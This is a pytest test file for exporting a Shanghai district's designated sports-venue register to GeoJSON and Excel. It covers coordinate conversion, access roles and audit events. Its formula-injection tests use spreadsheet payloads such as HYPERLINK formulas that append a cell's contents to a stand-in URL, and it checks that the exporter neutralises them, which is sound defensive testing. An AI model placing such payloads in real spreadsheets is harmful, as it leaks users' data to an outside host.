"""Exporting the designated-venue register (定点场馆名录): GeoJSON and Excel, on both databases;
the WGS-84 / GCJ-02 conversion; formula-injection neutralisation in spreadsheets."""

from __future__ import annotations

import datetime as dt
import itertools
import json
import math
from decimal import Decimal
from pathlib import Path

import factories
import openpyxl
import pytest
from conftest import TestDb
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from sqlalchemy import event, select
from sqlalchemy.orm import Session

from jd_admin.domain.errors import InvalidInput, PermissionDenied
from jd_admin.models import Agreement, AuditEvent, Role, Subdistrict, Venue, VenueSport
from jd_admin.reports.register_xlsx import HEADERS, SHEET_TITLE
from jd_admin.reports.xlsx import FORMULA_TRIGGERS, Sheet, safe_cell, write_sheets, write_table
from jd_admin.services import clock
from jd_admin.services.actor import Actor
from jd_admin.services.register.export import export_register, register_entries, to_geojson
from jd_admin.services.register.geo import gcj02_to_wgs84, wgs84_to_gcj02

NANXIANG = "南翔镇"
ANTING = "安亭镇"
HYPERLINK_NAME = '=HYPERLINK("http://x")'

# --- WGS-84 / GCJ-02 ---------------------------------------------------------------------


def test_wgs84_to_gcj02_known_pair() -> None:
    lon, lat = wgs84_to_gcj02(116.397428, 39.90923)  # Tiananmen, Beijing
    assert lon == pytest.approx(116.403666, abs=1e-5)
    assert lat == pytest.approx(39.910632, abs=1e-5)


def test_gcj02_shift_in_jiading_is_a_few_hundred_metres() -> None:
    lon, lat = wgs84_to_gcj02(121.25, 31.38)
    assert 0.003 < lon - 121.25 < 0.006
    assert 0.001 < 31.38 - lat < 0.003


@pytest.mark.parametrize("point", [
    (121.25, 31.38), (121.0, 31.2), (121.5, 31.5), (116.397428, 39.90923),
    (87.6, 43.8), (126.6, 45.75), (110.3, 20.0), (91.1, 29.65),
])
def test_round_trip_within_a_micro_degree(point: tuple[float, float]) -> None:
    back = gcj02_to_wgs84(*wgs84_to_gcj02(*point))
    assert back[0] == pytest.approx(point[0], abs=1e-7)
    assert back[1] == pytest.approx(point[1], abs=1e-7)


@given(st.floats(min_value=74.0, max_value=134.5), st.floats(min_value=4.5, max_value=53.0))
def test_inverse_is_exact_inside_china(lon: float, lat: float) -> None:
    w_lon, w_lat = gcj02_to_wgs84(lon, lat)
    f_lon, f_lat = wgs84_to_gcj02(w_lon, w_lat)
    assert abs(f_lon - lon) < 1e-7 and abs(f_lat - lat) < 1e-7


@pytest.mark.parametrize("point", [(-0.1276, 51.5072), (139.69, 35.69), (2.35, 48.86),
                                   (-74.0, 40.7), (121.25, -31.38)])
def test_outside_china_unchanged(point: tuple[float, float]) -> None:
    assert wgs84_to_gcj02(*point) == point
    assert gcj02_to_wgs84(*point) == point


@pytest.mark.parametrize("point", [(math.nan, 31.0), (121.0, math.inf), (181.0, 31.0),
                                   (121.0, -91.0)])
def test_invalid_coordinates_rejected(point: tuple[float, float]) -> None:
    with pytest.raises(ValueError):
        wgs84_to_gcj02(*point)
    with pytest.raises(ValueError):
        gcj02_to_wgs84(*point)


# --- formula injection ------------------------------------------------------------------------


@given(st.sampled_from(FORMULA_TRIGGERS), st.text())
def test_safe_cell_quotes_formula_triggers(trigger: str, rest: str) -> None:
    value = safe_cell(trigger + rest)
    assert isinstance(value, str) and value.startswith("'")


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc"))))
def test_safe_cell_leaves_plain_text_alone(text: str) -> None:
    if not text.startswith(FORMULA_TRIGGERS):
        assert safe_cell(text) == text


def test_safe_cell_passes_other_types_and_drops_illegal_characters() -> None:
    assert safe_cell(Decimal("60.00")) == Decimal("60.00")
    assert safe_cell(None) is None
    assert safe_cell(-5) == -5
    assert safe_cell("a\x00b\x1fc") == "abc"


def write_big(path: Path, title: str, headers: list[str], rows: list[tuple[object, ...]]) -> None:
    write_sheets(path, [Sheet(title, headers, rows, (30, None))])


@pytest.mark.parametrize("writer", [write_table, write_big])
def test_write_table_never_writes_a_formula(tmp_path: Path, writer) -> None:
    nasty = [t + 'HYPERLINK("http://x/?"&A1,"click")' for t in FORMULA_TRIGGERS]
    nasty += ["=1+1", "@SUM(A1)", "-2+3", "+86 138", "\t=1", "\r=1", "= 1"]
    path = tmp_path / "t.xlsx"
    writer(path, "t", ["值", "金额"], [(text, Decimal("1.50")) for text in nasty])
    ws = openpyxl.load_workbook(path).active
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.b
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    # (XML parsing turns a CR into LF: that is openpyxl's reading, not our writing.)
    assert [ws.cell(row=i + 2, column=1).value for i in range(len(nasty))] == [
        "'" + t.replace("\r", "\n") for t in nasty]
    assert ws["B2"].value == 1.5 and ws["B2"].number_format == "0.00"


def test_the_streamed_workbook_reads_back_in_openpyxl_and_calamine(tmp_path: Path) -> None:
    """write_sheets (several streamed sheets, for 80,000-row exports): every kind of value
    comes back as written, in both readers the program uses, on every sheet."""
    rows: list[tuple[object, ...]] = [
        (1, "a & b <c> \"d\"", Decimal("1234.56"), dt.datetime(2026, 10, 3, 14, 15),
         dt.date(2026, 10, 31), None),
        (2, "  前后有空格 ", Decimal("-0.50"), dt.datetime(2026, 1, 1), dt.date(2000, 2, 29),
         2.5),
        (3, "=SUM(A1)", Decimal(7), None, None, True),
    ]
    path = tmp_path / "big.xlsx"
    headers = ["号", "文本", "金额", "时间", "日期", "其他"]
    write_sheets(path, [Sheet("第一页", headers, rows, (6, 30, 12, 18, 12, None)),
                        Sheet("第二页 & more", headers[:2], iter([(9, "二")]))])
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["第一页", "第二页 & more"]
    ws = wb["第一页"]
    assert ws.freeze_panes == "A2" and ws["A1"].font.b and not ws["A2"].font.b
    assert ws.column_dimensions["B"].width == 30
    values = [tuple(c.value for c in row) for row in ws.iter_rows(min_row=2)]
    assert values == [
        (1, "a & b <c> \"d\"", 1234.56, dt.datetime(2026, 10, 3, 14, 15),
         dt.datetime(2026, 10, 31), None),
        (2, "  前后有空格 ", -0.5, dt.datetime(2026, 1, 1), dt.datetime(2000, 2, 29), 2.5),
        (3, "'=SUM(A1)", 7, None, None, True)]
    assert [ws[f"{c}2"].number_format for c in "CDE"] == [
        "0.00", "yyyy-mm-dd hh:mm", "yyyy-mm-dd"]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert [c.value for c in wb["第二页 & more"][2]] == [9, "二"]
    book = CalamineWorkbook.from_path(str(path))
    table = book.get_sheet_by_name("第一页").to_python()
    assert table[1][:4] == [1.0, "a & b <c> \"d\"", 1234.56, dt.datetime(2026, 10, 3, 14, 15)]
    assert table[2][1] == "  前后有空格 " and table[3][1] == "'=SUM(A1)"
    with pytest.raises(TypeError, match="timezones"):  # local times only
        write_sheets(tmp_path / "aware.xlsx", [Sheet("x", ["t"], [(dt.datetime.now(dt.UTC),)])])


# --- the register --------------------------------------------------------------------------

_agreement_numbers = itertools.count(1)


def add_agreement(s: Session, venue: Venue, *, status: str = "in_force",
                  in_force_from: dt.date | None, end: dt.date,
                  terminated_on: dt.date | None = None) -> Agreement:
    """An agreement of ``venue`` with every NOT NULL column filled; signed on the day it
    came (or comes) into force."""
    start = in_force_from or end - dt.timedelta(days=365)
    signed = in_force_from
    row = Agreement(
        number=f"JDTY-T-{next(_agreement_numbers):04d}", venue_id=venue.id,
        bureau_name="上海市嘉定区体育局", bureau_credit_code="11310114002416760A",
        venue_name=venue.name, venue_credit_code=venue.credit_code,
        venue_legal_representative="张三", venue_address=venue.address,
        venue_bank="中国银行嘉定支行 6217000000000000", operator_name="测试配送平台",
        operator_credit_code="91310000TESTOP0001", start_date=start, end_date=end,
        face_values=[{"face_value": "10", "subsidy": "8", "concession": "2"}],
        settlement_terms="按月结算", obligations="按协议履行", termination_grounds="违约",
        status=status, bureau_signed_on=signed, venue_signed_on=signed, operator_signed_on=signed,
        in_force_from=in_force_from, terminated_on=terminated_on, created_by="test",
    )
    s.add(row)
    s.flush()
    return row


def _subdistrict_id(s: Session, name: str) -> int:
    return s.scalars(select(Subdistrict.id).where(Subdistrict.name == name)).one()


def build_register(test_db: TestDb, day: dt.date) -> dict[str, str]:
    """Venues in every situation; returns venue name -> the agreement number include_all
    should show ("" for none)."""
    d = dt.timedelta
    year_ago, next_year = day - d(days=365), day + d(days=365)
    shown: dict[str, str] = {}
    with test_db.admin_db.session() as s, s.begin():
        nanxiang, anting = _subdistrict_id(s, NANXIANG), _subdistrict_id(s, ANTING)

        def venue(name: str, subdistrict: int = nanxiang, **kw: object) -> Venue:
            kw.setdefault("longitude", 121.25)
            kw.setdefault("latitude", 31.38)
            return factories.venue(s, subdistrict, name=name, **kw)

        v = venue("南翔游泳馆", sports=[VenueSport(sport="游泳", list_price=Decimal("60.00")),
                                        VenueSport(sport="羽毛球", list_price=Decimal("80.00"))],
                  venue_type="public", contact_mobile="13912345678", capacity=300)
        shown[v.name] = add_agreement(s, v, in_force_from=year_ago, end=next_year).number
        v = venue("安亭羽毛球馆", anting, longitude=121.16, latitude=31.29)
        shown[v.name] = add_agreement(s, v, in_force_from=day, end=day + d(days=1)).number
        v = venue("无坐标健身房", anting, longitude=None, latitude=None)
        shown[v.name] = add_agreement(s, v, in_force_from=day - d(days=10), end=day).number
        v = venue(HYPERLINK_NAME)
        shown[v.name] = add_agreement(s, v, in_force_from=year_ago, end=next_year).number
        v = venue("续签场馆")  # an expired agreement and its renewal: listed once, the renewal
        add_agreement(s, v, status="expired", in_force_from=day - d(days=730), end=day - d(days=1))
        shown[v.name] = add_agreement(s, v, in_force_from=day, end=next_year).number
        v = venue("将终止场馆")  # terminated as of next week: still in force today
        shown[v.name] = add_agreement(s, v, in_force_from=year_ago, end=next_year,
                                      terminated_on=day + d(days=7)).number
        # Not published by default:
        v = venue("无协议场馆")
        shown[v.name] = ""
        v = venue("仅有草稿协议场馆")
        add_agreement(s, v, status="draft", in_force_from=None, end=next_year)
        shown[v.name] = ""
        v = venue("暂停场馆", status="suspended")
        shown[v.name] = add_agreement(s, v, in_force_from=year_ago, end=next_year).number
        v = venue("退出场馆", status="withdrawn")
        shown[v.name] = add_agreement(s, v, status="expired", in_force_from=year_ago,
                                      end=day - d(days=1)).number
        v = venue("协议已到期场馆")
        shown[v.name] = add_agreement(s, v, status="expired", in_force_from=year_ago,
                                      end=day - d(days=1)).number
        v = venue("协议今日终止场馆")
        shown[v.name] = add_agreement(s, v, status="terminated", in_force_from=year_ago,
                                      end=next_year, terminated_on=day).number
        v = venue("协议尚未生效场馆")
        shown[v.name] = add_agreement(s, v, in_force_from=day + d(days=1), end=next_year).number
    return shown


PUBLISHED = {"南翔游泳馆", "安亭羽毛球馆", "无坐标健身房", HYPERLINK_NAME, "续签场馆", "将终止场馆"}


def test_default_register_is_designated_venues_with_agreement_in_force(test_db: TestDb) -> None:
    day = clock.today()
    shown = build_register(test_db, day)
    with test_db.admin_db.session() as s:
        entries = register_entries(s, test_db.system_actor)
        assert entries == register_entries(s, test_db.system_actor, day=day)
    assert {e.name for e in entries} == PUBLISHED
    assert len(entries) == len(PUBLISHED)
    by_name = {e.name: e for e in entries}
    assert {e.name: e.agreement_number for e in entries} == {n: shown[n] for n in PUBLISHED}

    pool = by_name["南翔游泳馆"]
    assert pool.venue_type == "public" and pool.venue_type_label == "公共体育场馆"
    assert pool.subdistrict == NANXIANG and pool.status_label == "定点"
    assert pool.sports == (("游泳", Decimal("60.00")), ("羽毛球", Decimal("80.00")))
    assert pool.contact_mobile == "13912345678" and pool.capacity == 300
    assert pool.agreement_end == day + dt.timedelta(days=365)
    assert (pool.lon, pool.lat) == (121.25, 31.38)
    assert (pool.gcj_lon, pool.gcj_lat) == wgs84_to_gcj02(121.25, 31.38)
    # The last day in force comes before the termination date.
    assert by_name["将终止场馆"].agreement_end == day + dt.timedelta(days=6)
    unlocated = by_name["无坐标健身房"]
    assert (unlocated.lon, unlocated.lat, unlocated.gcj_lon, unlocated.gcj_lat) == (None,) * 4


def test_other_days_follow_the_same_rule(test_db: TestDb) -> None:
    day = dt.date(2026, 6, 15)
    build_register(test_db, day)
    with test_db.admin_db.session() as s:
        tomorrow = {e.name for e in register_entries(s, test_db.system_actor,
                                                     day=day + dt.timedelta(days=1))}
    # 无坐标健身房's agreement ended today; 协议尚未生效场馆's starts tomorrow.
    assert tomorrow == PUBLISHED - {"无坐标健身房"} | {"协议尚未生效场馆"}


def test_include_all_lists_every_venue_with_its_current_or_last_agreement(
        test_db: TestDb) -> None:
    day = clock.today()
    shown = build_register(test_db, day)
    with test_db.admin_db.session() as s:
        entries = register_entries(s, test_db.system_actor, include_all=True)
    assert len(entries) == len(shown)
    assert {e.name: e.agreement_number or "" for e in entries} == shown
    statuses = {e.name: e.status_label for e in entries}
    assert statuses["暂停场馆"] == "暂停" and statuses["退出场馆"] == "退出"
    ended = next(e for e in entries if e.name == "协议今日终止场馆")
    assert ended.agreement_end == day - dt.timedelta(days=1)


def test_register_is_one_query_plus_sports(test_db: TestDb) -> None:
    build_register(test_db, clock.today())
    statements: list[str] = []

    def count(conn: object, cursor: object, statement: str, *args: object) -> None:
        statements.append(statement)

    engine = test_db.admin_db.engine
    with test_db.admin_db.session() as s:
        s.execute(select(1))  # connect (and any per-connection setup) first
        event.listen(engine, "before_cursor_execute", count)
        try:
            entries = register_entries(s, test_db.system_actor, include_all=True)
        finally:
            event.remove(engine, "before_cursor_execute", count)
    assert len(entries) > 10
    assert len(statements) == 2, statements


def test_geojson_export(test_db: TestDb, tmp_path: Path) -> None:
    build_register(test_db, clock.today())
    out = tmp_path / "register.geojson"
    with test_db.admin_db.session() as s, s.begin():
        count = export_register(s, test_db.system_actor, "geojson", out)
    assert count == len(PUBLISHED)
    raw = out.read_text(encoding="utf-8")
    assert NANXIANG in raw  # ensure_ascii=False: readable Chinese
    assert not list(tmp_path.glob(".*.part"))
    doc = json.loads(raw)
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc  # RFC 7946: WGS-84 only, no crs member
    features = {f["properties"]["name"]: f for f in doc["features"]}
    assert set(features) == PUBLISHED
    for name, feature in features.items():
        assert feature["type"] == "Feature" and isinstance(feature["id"], int)
        if name == "无坐标健身房":
            assert feature["geometry"] is None and feature["properties"]["gcj02"] is None
            continue
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert 121.0 <= lon <= 121.5 and 31.0 <= lat <= 31.6  # [lon, lat], Jiading
        assert lon == round(lon, 6) and lat == round(lat, 6)
        g_lon, g_lat = feature["properties"]["gcj02"]
        assert 0.003 < g_lon - lon < 0.006 and 0.001 < lat - g_lat < 0.003
        assert 0.002 < math.hypot(g_lon - lon, g_lat - lat) < 0.006

    props = features["南翔游泳馆"]["properties"]
    assert features["南翔游泳馆"]["geometry"]["coordinates"] == [121.25, 31.38]
    assert props["sports"] == [{"sport": "游泳", "list_price": "60.00"},
                               {"sport": "羽毛球", "list_price": "80.00"}]
    assert props["contact_phone"] == "13912345678"  # the venue's public business contact
    assert props["type"] == "public" and props["type_label"] == "公共体育场馆"
    assert props["subdistrict"] == NANXIANG and props["status"] == "designated"
    assert props["agreement_end"] == (clock.today() + dt.timedelta(days=365)).isoformat()
    assert props["agreement_number"].startswith("JDTY-T-")
    assert "credit_code" not in props and "contact_name" not in props

    with test_db.admin_db.session() as s:
        events = s.scalars(select(AuditEvent).where(AuditEvent.entity_type == "register")).all()
    assert len(events) == 1
    assert events[0].action == "导出"
    assert events[0].details is not None
    assert events[0].details["format"] == "geojson"
    assert events[0].details["count"] == len(PUBLISHED)


def test_to_geojson_of_nothing_is_an_empty_collection() -> None:
    assert to_geojson([]) == {"type": "FeatureCollection", "features": []}


def test_xlsx_export(test_db: TestDb, tmp_path: Path) -> None:
    build_register(test_db, clock.today())
    out = tmp_path / "register.xlsx"
    with test_db.admin_db.session() as s, s.begin():
        count = export_register(s, test_db.system_actor, ".XLSX", out, include_all=True)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == [SHEET_TITLE]
    ws = wb[SHEET_TITLE]
    assert ws.freeze_panes == "A2"
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == HEADERS
    assert rows[0][:4] == ("序号", "场馆名称", "类型", "街镇")
    assert rows[0][-4:] == ("经度(WGS-84)", "纬度(WGS-84)", "经度(GCJ-02)", "纬度(GCJ-02)")
    assert len(rows) - 1 == count == 13
    assert [r[0] for r in rows[1:]] == list(range(1, count + 1))
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)

    by_name = {r[1]: dict(zip(HEADERS, r, strict=True)) for r in rows[1:]}
    assert "'" + HYPERLINK_NAME in by_name
    assert HYPERLINK_NAME not in by_name
    pool = by_name["南翔游泳馆"]
    assert pool["类型"] == "公共体育场馆" and pool["街镇"] == NANXIANG
    assert pool["运动项目及挂牌价"] == "游泳 60.00元；羽毛球 80.00元"
    assert pool["联系电话"] == "13912345678" and pool["可容纳人数"] == 300
    assert pool["状态"] == "定点" and str(pool["协议编号"]).startswith("JDTY-T-")
    assert pool["协议到期日"] == dt.datetime.combine(clock.today() + dt.timedelta(days=365),
                                                 dt.time())
    assert (pool["经度(WGS-84)"], pool["纬度(WGS-84)"]) == (121.25, 31.38)
    g_lon, g_lat = wgs84_to_gcj02(121.25, 31.38)
    assert pool["经度(GCJ-02)"] == round(g_lon, 6) and pool["纬度(GCJ-02)"] == round(g_lat, 6)
    assert str(pool["统一社会信用代码"]).startswith("91310114TEST")  # text, not a number
    assert by_name["无协议场馆"]["协议编号"] is None
    assert by_name["无坐标健身房"]["经度(WGS-84)"] is None
    assert by_name["暂停场馆"]["状态"] == "暂停"

    with test_db.admin_db.session() as s:
        event_row = s.scalars(select(AuditEvent).where(AuditEvent.entity_type == "register")).one()
    assert event_row.details is not None
    assert event_row.details["format"] == "xlsx" and event_row.details["include_all"] is True
    assert event_row.details["count"] == 13


def test_subdistrict_user_reads_only_its_own_venues_and_may_not_export(
        test_db: TestDb, tmp_path: Path) -> None:
    """The export is the bureau's (Action.EXPORT_REGISTER), in the service as in the GUI."""
    build_register(test_db, clock.today())
    test_db.make_user("nanxiang", Role.SUBDISTRICT, subdistrict=NANXIANG)
    actor = test_db.actor("nanxiang")
    nanxiang = test_db.open_as("nanxiang")  # PostgreSQL: their own login role and grants
    out = tmp_path / "nanxiang.geojson"
    with nanxiang.session() as s, s.begin():
        names = {e.name for e in register_entries(s, actor, include_all=True)}
        subdistricts = {e.subdistrict for e in register_entries(s, actor)}
        with pytest.raises(PermissionDenied, match="无权导出定点场馆名录"):
            export_register(s, actor, "geojson", out)
    assert names and all(not n.startswith("安亭") and n != "无坐标健身房" for n in names)
    assert subdistricts == {NANXIANG}
    assert not out.exists()
    with test_db.admin_db.session() as s:
        assert not s.scalars(select(AuditEvent).where(AuditEvent.entity_type == "register")).all()


def test_other_staff_roles_see_the_whole_district(test_db: TestDb) -> None:
    build_register(test_db, clock.today())
    with test_db.admin_db.session() as s:
        for role in (Role.OPERATOR, Role.INSPECTOR, Role.BUREAU_STAFF):
            actor = Actor(username="x", full_name="x", role=role)
            assert {e.name for e in register_entries(s, actor)} == PUBLISHED


def test_subdistrict_user_without_subdistrict_is_refused(test_db: TestDb) -> None:
    actor = Actor(username="x", full_name="x", role=Role.SUBDISTRICT)
    with test_db.admin_db.session() as s, pytest.raises(PermissionDenied):
        register_entries(s, actor)


@pytest.mark.parametrize("fmt", ["csv", "", "json", "pdf"])
def test_bad_format_raises(test_db: TestDb, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / "register.out"
    with test_db.admin_db.session() as s, s.begin(), pytest.raises(InvalidInput):
        export_register(s, test_db.system_actor, fmt, out)
    assert not out.exists()
    with test_db.admin_db.session() as s:
        assert s.scalars(select(AuditEvent).where(AuditEvent.entity_type == "register")).all() == []


def test_unwritable_destination_is_a_user_error(test_db: TestDb, tmp_path: Path) -> None:
    out = tmp_path / "missing-folder" / "register.geojson"
    with test_db.admin_db.session() as s, s.begin(), pytest.raises(InvalidInput):
        export_register(s, test_db.system_actor, "geojson", out)
